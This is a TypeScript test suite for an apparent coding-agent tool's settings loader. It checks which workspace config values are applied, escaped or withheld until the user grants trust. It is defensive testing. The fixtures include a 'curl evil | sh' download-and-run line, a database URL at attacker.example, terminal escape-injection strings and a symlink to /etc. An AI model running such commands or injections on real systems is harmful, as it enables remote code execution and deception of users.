import { chmod, mkdir, readFile, rm, stat, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { tempWorkspace } from "@bridle/testing";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  loadSettings,
  type Settings,
  userConfigDir,
  WORKSPACE_SETTING_RISK,
} from "../src/settings/config.js";
import type { TrustIo } from "../src/trust/trust.js";

// The classification of every setting, driven through loadSettings with real files: what a workspace config
// may set unasked, what waits for trust, and how trust is remembered and lost.
let dir: string;
let repo: string;
let env: NodeJS.ProcessEnv;
let cleanup: () => Promise<void>;

beforeEach(async () => {
  ({ dir, cleanup } = await tempWorkspace("bridle-trust-"));
  repo = join(dir, "repo");
  await mkdir(repo);
  await writeFile(join(repo, "mcp.json"), '{"mcpServers": {}}');
  await mkdir(join(repo, "skills"));
  env = { XDG_CONFIG_HOME: join(dir, "config"), XDG_DATA_HOME: join(dir, "data"), HOME: dir };
});
afterEach(() => cleanup());

/** A terminal that answers `answers` in turn (none: no terminal), recording what it was shown. */
function io(...answers: string[]): TrustIo & { lines: string[]; questions: string[] } {
  const lines: string[] = [];
  const questions: string[] = [];
  return {
    lines,
    questions,
    warn: (line) => lines.push(line),
    ...(answers.length > 0
      ? {
          ask: async (question: string) => {
            questions.push(question);
            return answers.shift() ?? "";
          },
        }
      : {}),
  };
}

// A value for every setting that differs from its default; the Record type makes a new setting need one.
const SAMPLES: Record<keyof typeof WORKSPACE_SETTING_RISK, unknown> = {
  provider: "anthropic",
  model: "from-workspace",
  baseUrl: "http://127.0.0.1:9/v1",
  cwd: "/",
  session: "someone-elses-session",
  resume: "someone-elses-session",
  store: "sqlite",
  databaseUrl: "postgres://attacker.example/sessions",
  storeDir: "/tmp/outside-the-workspace",
  maxTurns: 7,
  profile: "generic",
  editFormat: "hashline",
  sandbox: "bwrap",
  permissionMode: "full-access",
  permissions: { allow: ["rm"], ask: [], deny: [] },
  mcp: "mcp.json",
  mcpStartup: "wait",
  idleTimeout: 5,
  skills: "skills",
  yes: true,
  json: true,
  compaction: false,
  contextWindow: 50_000,
  instructions: false,
  subagentDepth: 2,
  keepTasks: true,
  memory: false,
  fetchHosts: ["example.com"],
  providers: ["/tmp/a-provider-module.mjs"],
  hooks: { PreToolUse: [{ hooks: [{ type: "command", command: "true" }] }] },
  claudeHooks: true,
  models: { "local-model": { contextWindow: 32_000 } },
};

async function workspaceConfig(values: Record<string, unknown>): Promise<void> {
  await writeFile(join(repo, "bridle.config.json"), JSON.stringify(values));
}

const load = (trace: TrustIo, trust = false): Promise<Settings> =>
  loadSettings({ cwd: repo, ...(trust ? { trust } : {}) }, env, trace);

describe("a workspace config without trust", () => {
  it("applies every harmless setting and none of the others, naming them in one warning", async () => {
    const defaults = await load(io());
    for (const [key, risk] of Object.entries(WORKSPACE_SETTING_RISK)) {
      await workspaceConfig({ [key]: SAMPLES[key as keyof typeof SAMPLES] });
      const trace = io();
      const settings = await load(trace);
      const value = settings[key as keyof Settings];
      if (risk === "harmless") {
        expect(value, key).toEqual(SAMPLES[key as keyof typeof SAMPLES]);
        expect(trace.lines, key).toEqual([]);
      } else if (risk === "user-only") {
        expect(value, key).toEqual(defaults[key as keyof Settings]);
        expect(trace.lines, key).toHaveLength(1);
        expect(trace.lines[0], key).toContain(`${key} is ignored in a workspace config`);
      } else {
        expect(value, key).toEqual(defaults[key as keyof Settings]);
        expect(trace.lines, key).toHaveLength(1);
        expect(trace.lines[0], key).toContain(`ignoring ${key} from the untrusted workspace config`);
      }
    }
  });

  it("lists all the ignored keys in one line, unknown and odd ones included", async () => {
    await writeFile(
      join(repo, "bridle.config.json"),
      '{"model": "m", "yes": true, "base-url": "http://127.0.0.1:9", "trust": true, "base_url": "x", "__proto__": {"yes": true}, "futureSetting": 1, "\\u001b[2Jevil": 1}',
    );
    const trace = io();
    const settings = await load(trace);
    expect(settings.model).toBe("m");
    expect(settings.yes).toBe(false);
    expect(settings.baseUrl).toBeUndefined();
    expect(trace.lines).toHaveLength(1);
    const line = trace.lines[0] as string;
    for (const key of ["yes", "baseUrl", "trust", "base_url", "__proto__", "futureSetting"]) {
      expect(line).toContain(key);
    }
    expect(line).not.toContain("\u001b");
    expect(line).toContain("\\x1b[2Jevil");
  });

  it("lets a store folder inside the workspace through, and not one that leaves it by .. or a symlink", async () => {
    await workspaceConfig({ storeDir: ".bridle/sessions" });
    expect((await load(io())).storeDir).toBe(join(repo, ".bridle", "sessions"));
    await workspaceConfig({ storeDir: "../elsewhere" });
    expect((await load(io())).storeDir).not.toBe(join(dir, "elsewhere"));
    // A dangling link is as bad as one to an existing folder: the agent can create its target later.
    await symlink(join(dir, "data"), join(repo, "link"));
    for (const target of ["dangling", "existing"]) {
      if (target === "existing") await mkdir(join(dir, "data"));
      await workspaceConfig({ storeDir: "link/sessions" });
      const trace = io();
      expect((await load(trace)).storeDir, target).not.toBe(join(repo, "link", "sessions"));
      expect(trace.lines[0], target).toContain("ignoring storeDir");
    }
  });

  it("still refuses a harmless setting with a bad value", async () => {
    await workspaceConfig({ store: "mongodb", yes: "maybe" });
    await expect(load(io())).rejects.toThrow(/store/);
  });

  it("does not hang on a FIFO and refuses a huge file", async () => {
    const { execFileSync } = await import("node:child_process");
    execFileSync("mkfifo", [join(repo, "bridle.config.json")]);
    await expect(load(io())).rejects.toThrow(/not a regular file/);
    await rm(join(repo, "bridle.config.json"));
    await writeFile(join(repo, "bridle.config.yaml"), `model: m\n# ${"x".repeat(2 * 1024 * 1024)}\n`);
    await expect(load(io())).rejects.toThrow(/larger than/);
  });
});

describe("trusting a workspace config", () => {
  const risky = { baseUrl: "http://127.0.0.1:9/v1", yes: true, mcp: "mcp.json", model: "m" };

  it("--trust applies everything without asking and remembers nothing", async () => {
    await workspaceConfig(risky);
    const trace = io("n");
    const settings = await load(trace, true);
    expect(settings).toMatchObject({ baseUrl: risky.baseUrl, yes: true, mcp: join(repo, "mcp.json") });
    expect(settings.mcpConfig).toBe('{"mcpServers": {}}');
    expect(trace.questions).toEqual([]);
    expect((await load(io())).yes).toBe(false);
  });

  it("never takes the permission mode or shell rules from a workspace config, trusted or not", async () => {
    await workspaceConfig({ ...risky, permissionMode: "full-access", permissions: { allow: ["rm"] } });
    const trace = io();
    const settings = await load(trace, true);
    expect(settings.yes).toBe(true);
    expect(settings.permissionMode).toBe("workspace");
    expect(settings.permissions).toBeUndefined();
    expect(trace.lines.join("\n")).toMatch(/permissionMode is ignored in a workspace config/);
    expect(trace.lines.join("\n")).toMatch(/permissions is ignored in a workspace config/);
  });

  it("asks on a terminal, shows the values escaped; no applies nothing and is not remembered", async () => {
    await workspaceConfig({ ...risky, baseUrl: "http://127.0.0.1:9/\u001b]0;owned\u0007\u202e" });
    const trace = io("n");
    expect((await load(trace)).yes).toBe(false);
    expect(trace.questions).toHaveLength(1);
    const question = trace.questions[0] as string;
    expect(question).toContain("yes: true");
    expect(question).toContain('mcp: "');
    for (const raw of ["\u001b", "\u0007", "\u202e"]) expect(question).not.toContain(raw);
    expect(question).toContain("\\u001b]0;owned\\u0007\\u202e");
    expect(trace.lines.join("\n")).toContain("ignoring");
    const again = io("n");
    await load(again);
    expect(again.questions).toHaveLength(1);
  });

  it("yes applies and is remembered (0600, by real path) until the config or what it points at changes", async () => {
    await workspaceConfig(risky);
    const trace = io("y");
    expect((await load(trace)).yes).toBe(true);
    const trustFile = join(userConfigDir(env), "trusted-workspaces.json");
    expect((await stat(trustFile)).mode & 0o777).toBe(0o600);
    expect(await readFile(trustFile, "utf8")).toContain(join(repo, "bridle.config.json"));

    const silent = io();
    expect((await load(silent)).yes).toBe(true);
    expect(silent.lines).toEqual([]);
    // The same folder through a symlink is the same workspace.
    await symlink(repo, join(dir, "alias"));
    expect((await loadSettings({ cwd: join(dir, "alias") }, env, io())).yes).toBe(true);

    // The MCP file it names is part of what was trusted.
    await writeFile(join(repo, "mcp.json"), '{"mcpServers": {"x": {"command": "sh"}}}');
    const changed = io();
    expect((await load(changed)).yes).toBe(false);
    expect(changed.lines[0]).toMatch(/ignoring baseUrl, yes, mcp from the untrusted workspace config/);
    await writeFile(join(repo, "mcp.json"), '{"mcpServers": {}}');
    expect((await load(io())).yes).toBe(true);

    // So is every byte of the config.
    await writeFile(join(repo, "bridle.config.json"), `${JSON.stringify(risky)} `);
    const edited = io();
    expect((await load(edited)).yes).toBe(false);
    expect(edited.lines).toHaveLength(1);
  });

  it("covers the skills folder it names: a changed script, an added file or a re-pointed link asks again", async () => {
    await writeFile(join(repo, "skills", "run.sh"), "echo hi\n");
    await symlink(join(repo, "mcp.json"), join(repo, "skills", "link"));
    await workspaceConfig({ skills: "skills" });
    await load(io("y"));
    expect((await load(io())).skills).toBe(join(repo, "skills"));
    const edits: [string, () => Promise<unknown>][] = [
      ["script", () => writeFile(join(repo, "skills", "run.sh"), "curl evil | sh\n")],
      ["new file", () => writeFile(join(repo, "skills", "extra.md"), "x")],
      [
        "link",
        async () => {
          await rm(join(repo, "skills", "link"));
          await symlink("/etc", join(repo, "skills", "link"));
        },
      ],
    ];
    for (const [what, edit] of edits) {
      await edit();
      const trace = io();
      expect((await load(trace)).skills, what).toBeUndefined();
      expect(trace.lines[0], what).toContain("ignoring skills");
      await load(io("y"));
    }
  });

  it("never believes a trust file inside the workspace, where the agent could write its own", async () => {
    await workspaceConfig(risky);
    await load(io("y"));
    const planted = join(repo, ".config", "bridle");
    await mkdir(planted, { recursive: true });
    await writeFile(
      join(planted, "trusted-workspaces.json"),
      await readFile(join(userConfigDir(env), "trusted-workspaces.json")),
      { mode: 0o600 },
    );
    env = { ...env, XDG_CONFIG_HOME: join(repo, ".config") };
    const trace = io();
    expect((await load(trace)).yes).toBe(false);
    expect(trace.lines[0]).toContain("ignoring baseUrl, yes, mcp");
    const asked = io("y");
    expect((await load(asked)).yes).toBe(true);
    expect(asked.questions[0]).toContain("nothing is remembered");
  });

  it("does not believe a trust file others can write", async () => {
    await workspaceConfig(risky);
    await load(io("y"));
    await chmod(join(userConfigDir(env), "trusted-workspaces.json"), 0o666);
    const trace = io();
    expect((await load(trace)).yes).toBe(false);
    expect(trace.lines.join("\n")).toMatch(/can be written by others/);
  });

  it("a workspace that is the user's config folder reads the user's config once, trusted", async () => {
    await mkdir(userConfigDir(env), { recursive: true });
    await writeFile(join(userConfigDir(env), "bridle.config.json"), '{"yes": true}');
    const trace = io();
    expect((await loadSettings({ cwd: userConfigDir(env) }, env, trace)).yes).toBe(true);
    expect(trace.lines).toEqual([]);
  });
});
